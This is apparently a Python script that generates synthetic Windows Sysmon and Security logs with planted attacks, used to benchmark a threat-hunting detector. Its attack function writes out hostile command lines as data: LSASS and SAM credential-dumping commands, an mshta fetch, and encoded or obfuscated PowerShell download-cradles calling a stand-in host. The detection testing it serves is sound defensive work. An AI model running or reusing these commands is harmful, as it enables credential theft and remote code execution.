"""Sysmon and Security events of a Windows fleet, with attacker hosts planted, for sysmon-hunt.

Background: a day of many hosts' ordinary events in OTRF Security-Datasets' flat JSON (one object
a line): process creations of ordinary software (Sysmon 1, and some Security 4688), image loads
and network connections (Sysmon 7, 3: read and skipped), benign lsass readers (Defender, svchost,
Azure's guest agent: Sysmon 10), Windows' own CreateRemoteThread (csrss, dwm: Sysmon 8), network
logons of service accounts with no process (4624 type 3), machine accounts' network logons with
a process (gpupdate), interactive logons with the user's processes, admin PowerShell
(-ExecutionPolicy Bypass -File, -NoProfile -Command), Chrome's native-messaging cmd.

Planted: ``PLANTED`` hosts per signal, each doing its attack once or a few times within minutes.
The truth file (``<path>.truth.json``) maps each planted host to its signal. Deterministic for a
seed.

    .venv/bin/python bench/generate_sysmon_events.py /tmp/sysmon.json 1000000 --seed 7
"""

# ruff: noqa: E501 - Windows paths and command lines read best on one line

from __future__ import annotations

import argparse
import base64
import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

START = datetime(2025, 3, 3, tzinfo=timezone.utc)
DAY_SECONDS = 86_400
HOSTS = 400
PLANTED = 4  # hosts per signal
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\MsMpEng.exe"
GUEST_AGENT = "C:\\WindowsAzure\\GuestAgent_2.7.41491.993_2020-09-17_150914\\CollectGuestLogs.exe"

# (parent, image, command line) of ordinary software.
ORDINARY = [
    ("C:\\Windows\\explorer.exe", CHROME, f'"{CHROME}"'),
    (CHROME, CHROME, f'"{CHROME}" --type=renderer --field-trial-handle=1720'),
    (
        "C:\\Windows\\explorer.exe",
        SYSTEM32 + "notepad.exe",
        '"C:\\Windows\\system32\\notepad.exe" C:\\notes.txt',
    ),
    (SYSTEM32 + "services.exe", SYSTEM32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"),
    (SYSTEM32 + "svchost.exe", SYSTEM32 + "taskhostw.exe", "taskhostw.exe"),
    (SYSTEM32 + "svchost.exe", SYSTEM32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe"),
    (
        "C:\\Windows\\explorer.exe",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "WINWORD.EXE /n",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "C:\\Windows\\splwow64.exe",
        "splwow64.exe 12288",
    ),
    ("C:\\Windows\\explorer.exe", SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe"'),
    (SYSTEM32 + "cmd.exe", SYSTEM32 + "ipconfig.exe", "ipconfig /all"),
    (
        SYSTEM32 + "cmd.exe",
        SYSTEM32 + "reg.exe",
        "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion",
    ),
    (
        SYSTEM32 + "svchost.exe",
        POWERSHELL,
        f"{POWERSHELL} -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
    ),
    (SYSTEM32 + "svchost.exe", POWERSHELL, f"{POWERSHELL} -NoProfile -NonInteractive -Command Get-Service"),
    (
        CHROME,
        SYSTEM32 + "cmd.exe",
        'C:\\Windows\\system32\\cmd.exe /d /c "C:\\Program Files\\Vendor\\host.bat" chrome-extension://abcdef/ '
        "--parent-window=0",
    ),
    (SYSTEM32 + "svchost.exe", SYSTEM32 + "backgroundTaskHost.exe", "backgroundTaskHost.exe -ServerName:App"),
]
LSASS_READERS = [(SYSTEM32 + "svchost.exe", "0x1000"), (DEFENDER, "0x1410"), (GUEST_AGENT, "0x1410")]

SIGNALS = (
    "lsass_access",
    "credential_dumping",
    "remote_execution",
    "office_child_shell",
    "process_injection",
    "encoded_powershell",
    "browser_child_shell",
    "obfuscated_powershell",
)


def host_name(index: int) -> str:
    return f"WS{index:04d}.corp.example"


def stamp(seconds: float) -> str:
    return (START + timedelta(seconds=seconds)).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def sysmon(event_id: int, host: str, seconds: float, **fields) -> dict:
    return {"EventID": event_id, "Channel": SYSMON, "Hostname": host, "@timestamp": stamp(seconds), **fields}


def security(event_id: int, host: str, seconds: float, **fields) -> dict:
    return {
        "EventID": event_id,
        "Channel": "Security",
        "Hostname": host,
        "@timestamp": stamp(seconds),
        **fields,
    }


def process(
    host: str, seconds: float, parent: str, image: str, command_line: str, user: str, logon: str
) -> dict:
    return sysmon(
        1, host, seconds, Image=image, ParentImage=parent, CommandLine=command_line, User=user, LogonId=logon
    )


def background(rng: random.Random, host_index: int, seconds: float) -> list[dict]:
    """One host's ordinary event (or a logon with its processes) at ``seconds``."""
    host = host_name(host_index)
    user, session = f"CORP\\user{host_index:04d}", hex(0x10000 + host_index)
    roll = rng.random()
    if roll < 0.42:
        parent, image, command_line = rng.choice(ORDINARY)
        system = "svchost" in parent or "services" in parent
        return [
            process(
                host,
                seconds,
                parent,
                image,
                command_line,
                "NT AUTHORITY\\SYSTEM" if system else user,
                "0x3e7" if system else session,
            )
        ]
    if roll < 0.50:
        parent, image, command_line = rng.choice(ORDINARY)
        return [
            security(
                4688,
                host,
                seconds,
                NewProcessName=image,
                ParentProcessName=parent,
                CommandLine=command_line,
                SubjectUserName=f"user{host_index:04d}",
                SubjectDomainName="CORP",
            )
        ]
    if roll < 0.62:
        source, mask = rng.choice(LSASS_READERS)
        return [
            sysmon(
                10, host, seconds, SourceImage=source, TargetImage=SYSTEM32 + "lsass.exe", GrantedAccess=mask
            )
        ]
    if roll < 0.64:
        target = rng.choice(["C:\\Windows\\explorer.exe", SYSTEM32 + "conhost.exe"])
        return [
            sysmon(
                8, host, seconds, SourceImage=SYSTEM32 + "csrss.exe", TargetImage=target, StartFunction="-"
            )
        ]
    if roll < 0.80:
        return [sysmon(7, host, seconds, Image=CHROME, ImageLoaded=SYSTEM32 + "ntdll.dll", Signed="true")]
    if roll < 0.90:
        return [sysmon(3, host, seconds, Image=CHROME, DestinationIp="203.0.113.80", DestinationPort=443)]
    if roll < 0.95:  # a service account's network logon (a file share, a backup): no process
        account = rng.choice(["svc_backup", "svc_monitor", "svc_sccm"])
        return [logon(host, seconds, account, hex(rng.randrange(0x100000, 0xFFFFFF)), "10.0.9.5")]
    if roll < 0.97:  # the machine account's network logon running gpupdate
        session = hex(rng.randrange(0x100000, 0xFFFFFF))
        return [
            logon(host, seconds, f"WS{host_index:04d}$", session, "10.0.0.10"),
            process(
                host,
                seconds + 1,
                SYSTEM32 + "svchost.exe",
                SYSTEM32 + "gpupdate.exe",
                "gpupdate.exe /target:computer",
                f"CORP\\WS{host_index:04d}$",
                session,
            ),
        ]
    # The user's interactive logon and the processes of the session.
    return [
        logon(host, seconds, f"user{host_index:04d}", session, "127.0.0.1", kind="2"),
        process(
            host,
            seconds + 2,
            SYSTEM32 + "userinit.exe",
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            user,
            session,
        ),
    ]


def logon(host: str, seconds: float, user: str, session: str, source: str, kind: str = "3") -> dict:
    package = "Kerberos" if kind == "3" else "Negotiate"
    return security(
        4624,
        host,
        seconds,
        LogonType=kind,
        TargetUserName=user,
        TargetDomainName="CORP",
        TargetLogonId=session.upper().replace("0X", "0x"),
        IpAddress=source,
        LogonProcessName="Kerberos" if kind == "3" else "User32",
        AuthenticationPackageName=package,
    )


def attack(signal: str, host: str, seconds: float, rng: random.Random) -> list[dict]:
    """The events of one planted attack of ``signal`` on ``host`` starting at ``seconds``."""
    user, session = "CORP\\eve", hex(rng.randrange(0x1000000, 0xFFFFFFF))
    if signal == "lsass_access":
        return [
            sysmon(
                10,
                host,
                seconds,
                SourceImage="C:\\Users\\Public\\svch0st.exe",
                TargetImage=SYSTEM32 + "lsass.exe",
                GrantedAccess=rng.choice(["0x1010", "0x1fffff", "0x1438"]),
            )
        ]
    if signal == "credential_dumping":
        command_line = rng.choice(
            [
                "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
                "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\l.dmp full",
                "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save",
                'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\n" q q',
            ]
        )
        return [
            process(
                host, seconds, SYSTEM32 + "cmd.exe", "C:\\Windows\\Temp\\t.exe", command_line, user, session
            )
        ]
    if signal == "remote_execution":
        return [
            logon(host, seconds, "admin.eve", session, "10.0.66.6"),
            process(
                host,
                seconds + rng.uniform(1, 240),
                SYSTEM32 + "wbem\\WmiPrvSE.exe",
                SYSTEM32 + "cmd.exe",
                "cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\__1741 2>&1",
                "CORP\\admin.eve",
                session,
            ),
        ]
    if signal == "office_child_shell":
        return [
            process(
                host,
                seconds,
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                SYSTEM32 + "mshta.exe",
                "mshta.exe http://203.0.113.66/a.hta",
                user,
                session,
            )
        ]
    if signal == "process_injection":
        return [
            sysmon(
                8,
                host,
                seconds,
                SourceImage="C:\\Users\\eve\\AppData\\Local\\Temp\\u.exe",
                TargetImage=SYSTEM32 + "notepad.exe",
                StartFunction="LoadLibraryW",
            )
        ]
    if signal == "encoded_powershell":
        script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/s')"
        payload = base64.b64encode(script.encode("utf-16-le")).decode()
        switch = rng.choice(["-e", "-enc", "-EncodedCommand", "-ec"])
        return [
            process(
                host,
                seconds,
                SYSTEM32 + "cmd.exe",
                POWERSHELL,
                f"powershell.exe {switch} {payload}",
                user,
                session,
            )
        ]
    if signal == "browser_child_shell":
        return [
            process(
                host,
                seconds,
                CHROME,
                SYSTEM32 + "wscript.exe",
                "wscript.exe C:\\Users\\eve\\Downloads\\invoice.js",
                user,
                session,
            )
        ]
    command_line = (
        "powershell.exe -c \"I`E`X (n`e`w-object Net.WebClient).DownloadString('http://203.0.113.66/s')\""
    )
    return [process(host, seconds, SYSTEM32 + "cmd.exe", POWERSHELL, command_line, user, session)]


def plan(seed: int) -> dict[str, str]:
    """The planted hosts (names like the others') and their signals."""
    rng = random.Random(seed)
    chosen = rng.sample(range(HOSTS), PLANTED * len(SIGNALS))
    return {host_name(index): SIGNALS[i // PLANTED] for i, index in enumerate(chosen)}


def write(path: Path, events: int, seed: int = 7) -> None:
    """``events`` JSON lines at ``path`` (background plus the planted attacks), and the truth file
    ``<path>.truth.json``: ``{"planted": {host: signal}}``."""
    rng = random.Random(seed)
    truth = plan(seed)
    attacks = []
    for host, signal in sorted(truth.items()):
        seconds = rng.uniform(600, DAY_SECONDS - 900)
        attacks.extend(attack(signal, host, seconds, rng))
    attacks = attacks[:events]
    written = 0
    with path.open("w", encoding="utf-8") as out:
        dumps = json.dumps
        for event in attacks:
            out.write(dumps(event) + "\n")
        written = len(attacks)
        while written < events:
            seconds = rng.random() * DAY_SECONDS
            for event in background(rng, rng.randrange(HOSTS), seconds)[: events - written]:
                out.write(dumps(event) + "\n")
                written += 1
    Path(f"{path}.truth.json").write_text(
        json.dumps({"seed": seed, "events": events, "planted": truth}, indent=1)
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("path", type=Path)
    parser.add_argument("events", type=int)
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args(argv)
    write(args.path, args.events, args.seed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
